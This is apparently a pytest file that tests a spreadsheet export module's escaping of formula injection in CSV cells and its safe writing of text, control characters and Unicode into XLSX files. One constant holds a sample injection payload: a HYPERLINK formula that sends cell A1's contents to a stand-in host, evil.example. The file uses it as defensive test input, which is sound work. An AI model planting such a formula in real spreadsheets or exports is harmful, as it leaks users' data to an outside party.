import io

import pytest
from openpyxl import Workbook, load_workbook

from core.spreadsheets import csv_cell, read_csv_cell, xlsx_row, xlsx_text

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+81 3 1234 5678", "'+81 3 1234 5678"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("'=1+1", "''=1+1"),
        ("Tanaka", "Tanaka"),
        ("O'Brien", "O'Brien"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_csv_cell_escapes_text_a_spreadsheet_would_run_and_reads_back_what_was_stored(stored, written):
    assert csv_cell(stored) == written
    assert read_csv_cell(csv_cell(stored)) == stored


def _round_trip_xlsx(values):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Sheet1")
    sheet.append(xlsx_row(sheet, values))
    output = io.BytesIO()
    workbook.save(output)
    return load_workbook(io.BytesIO(output.getvalue()))["Sheet1"]


def test_xlsx_row_writes_text_as_strings_never_formulas_or_error_values():
    sheet = _round_trip_xlsx([HYPERLINK, "#N/A", "+81 3", 7])

    assert [cell.value for cell in sheet[1]] == [HYPERLINK, "#N/A", "+81 3", 7]
    assert [cell.data_type for cell in sheet[1]] == ["s", "s", "s", "n"]


def test_xlsx_row_replaces_characters_xml_cannot_hold_instead_of_failing():
    sheet = _round_trip_xlsx(["Tana\x00ka\x1b", "ok\ttab\nline", "\ufffe"])

    assert [cell.value for cell in sheet[1]] == ["Tana\ufffdka\ufffd", "ok\ttab\nline", "\ufffd"]


def test_xlsx_text_keeps_ordinary_text():
    assert xlsx_text("山田 太郎 Nguyễn 👨‍👩‍👧") == "山田 太郎 Nguyễn 👨‍👩‍👧"
